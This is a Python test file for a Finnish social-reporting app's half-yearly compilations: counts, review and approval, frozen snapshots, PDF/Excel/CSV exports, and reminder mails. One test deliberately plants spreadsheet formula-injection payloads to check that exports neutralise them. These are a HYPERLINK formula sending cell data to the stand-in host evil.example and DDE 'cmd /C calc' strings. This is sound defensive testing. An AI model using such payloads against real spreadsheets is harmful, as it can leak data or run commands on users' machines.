"""Compilations: content from the database, the review workflow, the frozen snapshot, exports and reminders."""
from __future__ import annotations

import csv
import errno
import io
import json
from datetime import date, datetime, timezone

import openpyxl
import pytest
import sqlalchemy as sa
from helpers import add_report, assert_accessible_pdf, code_confirmed, suggested_by_reporter
from pypdf import PdfReader

from app.codes import CompilationAction, CompilationStatus, Nature, Phenomenon, Role
from app.extensions import db
from app.models import (
    Compilation,
    CompilationReminder,
    Municipality,
    OutboxMessage,
    Theme,
)
from app.workflow.cases.operations import perform
from app.workflow.cases.transitions import Action
from app.workflow.compilations import export as compilation_export
from app.workflow.compilations import operations as compilations
from app.workflow.compilations.periods import Period
from app.workflow.core.errors import Refusal

H1 = Period(2026, 1)
NOW = datetime(2026, 7, 15, 9, tzinfo=timezone.utc)


def at(month: int, day: int, year: int = 2026) -> datetime:
    return datetime(year, month, day, 10, tzinfo=timezone.utc)


def file(unit, when, **fields):  # type: ignore[no-untyped-def]
    return add_report(unit, now=when, **{"nature": Nature.NEGATIVE, "phenomenon": Phenomenon.SOCIAL_PROBLEMS,
                                         "description": "Vuokrat ylittävät asumistuen rajat.", **fields})


@pytest.fixture
def period_data(org):  # type: ignore[no-untyped-def]
    """Three reports in 2026-H1 (one named, one handled with an internal note), one in 2025-H2."""
    themes = {t.code: t for t in db.session.scalars(sa.select(Theme))}
    siilinjarvi = db.session.scalar(sa.select(Municipality).where(Municipality.name == "Siilinjärvi"))
    named = code_confirmed(file(org["unit"], at(2, 1), themes=[themes["housing"], themes["income"]], significance=4,
                                reporter_name="Raili Raportoija", reporter_email="raili@t.example"),
                           "homelessness", "economic_situation")
    handled = code_confirmed(file(org["unit"], at(3, 1), nature=Nature.POSITIVE, phenomenon=Phenomenon.CLIENT_WORK,
                                  themes=[themes["housing"]], description="Yhteisvastaanotto toimii."), "homelessness")
    perform(Action.START_HANDLING, handled, org["handler"], now=at(3, 3))
    perform(Action.ADD_NOTE, handled, org["handler"], note="Sisäinen: soita yksikön esihenkilölle.", now=at(3, 4))
    perform(Action.RESOLVE, handled, org["handler"], note="Käytäntö levitetään.", now=at(3, 11))
    file(org["other_unit"], at(6, 30), municipalities=[siilinjarvi], description="Kuljetukset puuttuvat.",
         national_phenomena=suggested_by_reporter("mental_health"))  # the reporter's pick, not yet confirmed
    file(org["unit"], at(12, 1, 2025), description="Edellisen kauden raportti.")
    db.session.commit()
    return {"named": named, "handled": handled}


def test_draft_content_counts_the_period_and_compares_with_the_previous(app_ctx, period_data):
    content = compilations.draft_content(H1, now=NOW)
    assert content["total"] == 3 and content["previous_total"] == 1
    assert content["deadline"] == "2026-09-30"
    rows = {b["key"]: {r["code"]: r for r in b["rows"]} for b in content["breakdowns"]}
    assert rows["nature"]["negative"]["count"] == 2 and rows["nature"]["negative"]["previous"] == 1
    assert rows["nature"]["positive"]["change_pct"] is None
    assert rows["themes"]["housing"]["count"] == 2 and rows["themes"]["none"]["count"] == 1
    assert rows["national_phenomena"]["homelessness"]["count"] == 2
    assert rows["national_phenomena"]["economic_situation"]["count"] == 1
    assert rows["national_phenomena"]["mental_health"]["count"] == 0, "an unconfirmed suggestion counts for nothing"
    assert rows["national_phenomena"]["none"]["count"] == 1
    assert rows["municipalities"]["297"]["count"] == 2 and rows["municipalities"]["749"]["count"] == 1
    assert rows["significance"]["4"]["count"] == 1 and rows["significance"]["none"]["count"] == 2
    assert rows["status"]["resolved"]["count"] == 1 and rows["status"]["received"]["count"] == 2
    assert content["processing"]["first_handling"] == {"count": 1, "median_days": 2.0, "mean_days": 2.0, "max_days": 2.0}
    assert content["processing"]["feedback"]["count"] == 1 and content["processing"]["feedback"]["median_days"] == 10.0
    assert content["national_phenomena_version"] == 1
    assert rows["population_group"]["none"]["count"] == 3 and rows["profession_group"]["none"]["count"] == 3
    assert content["processing"]["resolution"]["median_days"] == 10.0
    kuopio = next(m for m in content["municipalities"] if m["code"] == "297")
    assert kuopio["total"] == 2 and kuopio["previous_total"] == 1
    assert [r["number"] for r in content["reports"]][0] == period_data["named"].number


def test_content_never_holds_reporters_or_internal_notes(app_ctx, period_data):
    text = json.dumps(compilations.draft_content(H1, now=NOW), ensure_ascii=False)
    assert "Raili" not in text and "raili@t.example" not in text
    assert "Sisäinen: soita" not in text and "Käytäntö levitetään" not in text


def test_empty_period(app_ctx, org):
    content = compilations.draft_content(Period(2024, 1), now=NOW)
    assert content["total"] == 0 and content["reports"] == []
    assert all(r["share"] == 0 for b in content["breakdowns"] for r in b["rows"])
    assert compilation_export.render_csv(content).decode("utf-8-sig").startswith("kausi;kunta;jaottelu")


def journey_to_review(org, period_data):  # type: ignore[no-untyped-def]
    compilation = compilations.open_compilation(H1, org["working_group"], NOW)
    compilations.save_texts(compilation, org["working_group"], "Asuminen nousi esiin.",
                            {"housing": ("Vuokrat ovat liian korkeat.", "Lisää kohtuuhintaisia asuntoja.")})
    highlight = compilations.highlight_report(compilation, org["working_group"], period_data["named"].number)
    compilations.edit_highlight(compilation, org["working_group"], highlight.id, "Vuokrat ylittävät rajat (ote).")
    compilations.perform(CompilationAction.SEND_FOR_REVIEW, compilation, org["working_group"])
    db.session.commit()
    return compilation


def test_review_returns_with_comments_and_approval_freezes_a_snapshot(app_ctx, org, period_data):
    compilation = journey_to_review(org, period_data)
    assert period_data["named"].description == "Vuokrat ylittävät asumistuen rajat."  # the original stays
    with pytest.raises(Refusal):
        compilations.save_texts(compilation, org["working_group"], "Muutos kesken arvion.", {})
    with pytest.raises(Refusal, match="kommentit"):
        compilations.perform(CompilationAction.RETURN, compilation, org["review_body"], note=" ")
    compilations.perform(CompilationAction.RETURN, compilation, org["review_body"], note="Lisää päihteistä.")
    assert compilation.status == CompilationStatus.DRAFT
    assert compilation.events[-1].note == "Lisää päihteistä."
    compilations.perform(CompilationAction.SEND_FOR_REVIEW, compilation, org["working_group"])
    with pytest.raises(Refusal):
        compilations.perform(CompilationAction.APPROVE, compilation, org["working_group"])
    compilations.perform(CompilationAction.APPROVE, compilation, org["review_body"], now=NOW)
    db.session.commit()
    assert compilation.status == CompilationStatus.PUBLISHED and compilation.published_at == NOW
    snapshot = compilations.content_of(H1, compilation)
    assert snapshot["status"] == "published" and snapshot["summary"] == "Asuminen nousi esiin."
    assert snapshot["highlights"][0]["excerpt"] == "Vuokrat ylittävät rajat (ote)."
    assert snapshot["themes"][0]["proposals"] == "Lisää kohtuuhintaisia asuntoja."

    # later changes to the reports do not touch what was published
    perform(Action.START_HANDLING, period_data["named"], org["handler"])
    file(org["unit"], at(5, 5), description="Myöhässä kirjattu raportti.")
    db.session.commit()
    db.session.expire_all()
    frozen = compilations.content_of(H1, db.session.get(Compilation, compilation.id))
    assert frozen == snapshot and frozen["total"] == 3
    assert compilations.draft_content(H1)["total"] == 4
    with pytest.raises(Refusal):
        compilations.highlight_report(compilation, org["working_group"], period_data["handled"].number)


@pytest.mark.parametrize("role", ["employee", "handler", "social_director", "review_body", "coordinator", "admin"])
def test_only_the_working_group_opens_and_edits(app_ctx, org, role):
    with pytest.raises(Refusal):
        compilations.open_compilation(H1, org[role], NOW)
    compilation = compilations.open_compilation(H1, org["working_group"], NOW)
    with pytest.raises(Refusal):
        compilations.save_texts(compilation, org[role], "x", {})


def test_refusals(app_ctx, org, period_data):
    with pytest.raises(Refusal, match="ei ole vielä alkanut"):
        compilations.open_compilation(Period(2026, 2), org["working_group"], datetime(2026, 6, 1, tzinfo=timezone.utc))
    compilation = compilations.open_compilation(H1, org["working_group"], NOW)
    with pytest.raises(Refusal, match="jo avattu"):
        compilations.open_compilation(H1, org["working_group"], NOW)
    with pytest.raises(Refusal, match="ei ole tämän kauden"):
        compilations.highlight_report(compilation, org["working_group"], "SR-2025-00001")
    with pytest.raises(Refusal, match="muuttaa koostetta"):
        compilations.save_texts(compilation, org["working_group"], "x", {}, expected_version=compilation.version - 1)
    compilations.highlight_report(compilation, org["working_group"], period_data["named"].number)
    with pytest.raises(Refusal, match="jo nostettu"):
        compilations.highlight_report(compilation, org["working_group"], period_data["named"].number.lower())


def test_pdf_excel_and_csv_of_a_draft_and_of_one_municipality(app_ctx, org, period_data):
    content = compilations.draft_content(H1, now=NOW)
    pdf = compilation_export.render_pdf(content)
    assert_accessible_pdf(pdf, "Sosiaalisen raportoinnin puolivuotiskooste 1.1.–30.6.2026")
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    assert "Sosiaalisen raportoinnin puolivuotiskooste" in text and "LUONNOS" in text
    assert "1.1.–30.6.2026" in text and "Siilinjärvi" in text and "Sivu 2 /" in text
    assert "Raili" not in text

    part_pdf = compilation_export.render_pdf(content, "749")
    assert_accessible_pdf(part_pdf, "Sosiaalisen raportoinnin puolivuotiskooste 1.1.–30.6.2026 – Siilinjärvi")
    part = PdfReader(io.BytesIO(part_pdf))
    part_text = "\n".join(page.extract_text() for page in part.pages)
    # Siilinjärvi has one report: no figures of its own, and no report text is ever printed
    assert "raportteja oli kaudella alle 5" in part_text
    assert "Kuljetukset puuttuvat." not in part_text and "Vuokrat ylittävät asumistuen rajat." not in part_text
    assert "Kuljetukset puuttuvat." not in text

    book = openpyxl.load_workbook(io.BytesIO(compilation_export.render_xlsx(content)))
    assert {"Yhteenveto", "Raportoitava ilmiö", "Teemat", "Kunta", "Käsittelytaso"} <= set(book.sheetnames)
    themes = {row[0]: row[2] for row in book["Teemat"].iter_rows(min_row=2, values_only=True)}
    assert themes["housing"] == 2
    lines = compilation_export.render_csv(content).decode("utf-8-sig").splitlines()
    assert "2026-H1;;nature;negative;Kielteinen ilmiö;2;0,6667;1;1;" in lines  # under 10 reports: no per cent
    places = {line.split(";")[3]: line.split(";")[5:] for line in lines if ";municipalities;" in line}
    assert places["297"][0] == "<5" and places["749"][0] == "<5"  # a place's small count is hidden
    assert compilation_export.render_csv(content, "297").decode("utf-8-sig").splitlines()[1:] == [
        "2026-H1;297;total;reports;Raportteja yhteensä;<5;;<5;;"]  # too few for figures of its own


def test_names_that_a_spreadsheet_would_run_are_text_in_excel_and_csv(app_ctx, org, period_data):
    """Unit, forum and theme names come from administrators' input (or an imported file): never formulas."""
    link = '=HYPERLINK("http://evil.example/?d="&A1;"Avaa")'
    org["unit"].division.name = link
    org["forum"].name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.scalar(sa.select(Theme).where(Theme.code == "housing")).label_fi = "+cmd|' /C calc'!A0"
    perform(Action.START_HANDLING, period_data["named"], org["handler"], now=at(2, 2))
    perform(Action.TAKE_FORWARD, period_data["named"], org["handler"], forum=org["forum"], note="Eteenpäin.",
            now=at(2, 3))
    db.session.commit()
    content = compilations.draft_content(H1, now=NOW)

    book = openpyxl.load_workbook(io.BytesIO(compilation_export.render_xlsx(content)))
    cells = {cell.value: cell for sheet in book for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    for text in (link, "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"):
        assert cells[text].data_type == "s", text
    assert not [cell for cell in cells.values() if cell.data_type == "f"]
    themes = {row[0]: row[2] for row in book["Teemat"].iter_rows(min_row=2, values_only=True)}
    assert themes["housing"] == 2

    rows = list(csv.reader(io.StringIO(compilation_export.render_csv(content).decode("utf-8-sig")), delimiter=";"))
    labels = {(row[2], row[3]): row[4] for row in rows[1:]}
    assert labels[("division", org["unit"].division.code)] == "'" + link
    assert labels[("forum", "RSTR")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert labels[("themes", "housing")] == "'+cmd|' /C calc'!A0"
    assert not [row for row in rows if any(cell.startswith(("=", "@", "+")) for cell in row)]
    assert [row[5] for row in rows[1:] if row[2] == "themes" and row[3] == "housing"] == ["2"]


def test_a_failed_write_leaves_no_file_and_keeps_the_old_one(app_ctx, tmp_path):
    target = tmp_path / "kooste.pdf"
    target.write_bytes(b"old")

    def full_disk() -> bytes:
        raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(compilation_export.ExportError, match="No space left on device"):
        compilation_export.write_atomically(target, full_disk)
    with pytest.raises(compilation_export.ExportError, match="ValueError"):
        compilation_export.write_atomically(tmp_path / "new.pdf", lambda: (_ for _ in ()).throw(ValueError("x")))
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kooste.pdf"]
    compilation_export.write_atomically(target, lambda: b"new")
    assert target.read_bytes() == b"new" and sorted(p.name for p in tmp_path.iterdir()) == ["kooste.pdf"]


def test_export_command_renders_an_unpublished_period_as_a_draft(app, app_ctx, period_data, tmp_path):
    runner = app.test_cli_runner()
    result = runner.invoke(args=["compilation", "export", "2026-H1", "--xlsx", str(tmp_path / "k.xlsx"),
                                 "--csv", str(tmp_path / "k.csv"), "--municipality", "Kuopio"])
    assert result.exit_code == 0, result.output
    assert "luonnos" in result.output
    assert "2026-H1;297;" in (tmp_path / "k.csv").read_text(encoding="utf-8-sig")
    assert openpyxl.load_workbook(tmp_path / "k.xlsx")["Yhteenveto"]["B2"].value == "Kuopio"
    bad = runner.invoke(args=["compilation", "export", "2026-H3", "--csv", str(tmp_path / "x.csv")])
    assert bad.exit_code != 0 and "2026-H1" in bad.output
    nothing = runner.invoke(args=["compilation", "export", "2026-H1"])
    assert nothing.exit_code != 0 and "--pdf" in nothing.output


def test_the_last_compilation_of_the_term_shows_every_half_year(app_ctx, org):
    file(org["unit"], at(8, 1, 2025))
    file(org["unit"], at(2, 1, 2026))
    file(org["unit"], at(3, 1, 2026), nature=Nature.POSITIVE)
    db.session.commit()
    assert compilations.draft_content(H1)["term"] is None
    content = compilations.draft_content(Period(2028, 2))
    term = content["term"]
    assert term["label"] == "2025–2029"
    assert [p["code"] for p in term["periods"]] == ["2025-H2", "2026-H1", "2026-H2", "2027-H1", "2027-H2",
                                                    "2028-H1", "2028-H2"]
    assert term["totals"]["values"] == [1, 2, 0, 0, 0, 0, 0]
    nature = next(t for t in term["tables"] if t["key"] == "nature")
    assert next(r for r in nature["rows"] if r["code"] == "positive")["values"][:2] == [0, 1]
    charts = compilation_export.build_charts(content)
    assert "term_total" in charts and "term_themes" in charts
    sheets = compilation_export.figure_tables(content)
    assert any(name.startswith("Kausi ") for name in sheets)


def test_deadline_reminders_go_once_to_the_working_group(app, app_ctx, org):
    assert compilations.send_deadline_reminders(date(2026, 8, 31)) == 1
    db.session.commit()
    assert compilations.send_deadline_reminders(date(2026, 9, 1)) == 0
    assert compilations.send_deadline_reminders(date(2026, 9, 23)) == 1
    reminders = db.session.scalars(sa.select(CompilationReminder)).all()
    assert {(r.period, r.deadline, r.days_before) for r in reminders} == {
        ("2026-H1", date(2026, 9, 30), 30), ("2026-H1", date(2026, 9, 30), 7)}
    mails = db.session.scalars(sa.select(OutboxMessage).where(OutboxMessage.kind == "compilation_deadline_reminder")
                               .order_by(OutboxMessage.id)).all()
    assert [m.recipient for m in mails] == [org["working_group"].email] * 2
    assert mails[0].subject == "Muistutus: kauden 1.1.–30.6.2026 kooste hyväksyttävä 30.9.2026 mennessä"
    assert "https://sora.test/compilations/" in mails[0].body_text


def test_publication_notifies_the_coordinators(app_ctx, org, period_data):
    compilation = journey_to_review(org, period_data)
    compilations.perform(CompilationAction.APPROVE, compilation, org["review_body"])
    mails = db.session.scalars(sa.select(OutboxMessage).where(OutboxMessage.kind == "compilation_published")).all()
    assert [(m.recipient, m.subject) for m in mails] == [
        (org["coordinator"].email, "Puolivuotiskooste 1.1.–30.6.2026 on julkaistu")]
    assert "https://sora.test/welfare/?span=2026-H1" in mails[0].body_text
    assert org["coordinator"].has_role(Role.WELFARE_COORDINATOR)


@pytest.mark.parametrize(("language", "subject", "body"), [
    ("sv", "Halvårssammanställningen 1.1.–30.6.2026 har publicerats", "Hej,"),
    ("en", "Half-yearly compilation 1 Jan – 30 Jun 2026 has been published", "Hello,"),
])
def test_a_coordinator_reads_the_publication_mail_in_their_own_language(app_ctx, org, period_data, language,
                                                                         subject, body):
    org["coordinator"].language = language
    compilation = journey_to_review(org, period_data)
    compilations.perform(CompilationAction.APPROVE, compilation, org["review_body"])
    mail = db.session.scalars(sa.select(OutboxMessage).where(OutboxMessage.kind == "compilation_published")).one()
    assert mail.subject == subject and mail.body_text.startswith(body)
    assert "Asiakaskokemusjaosto" not in mail.body_text and "Asiakaskokemusjaosto" not in mail.body_html
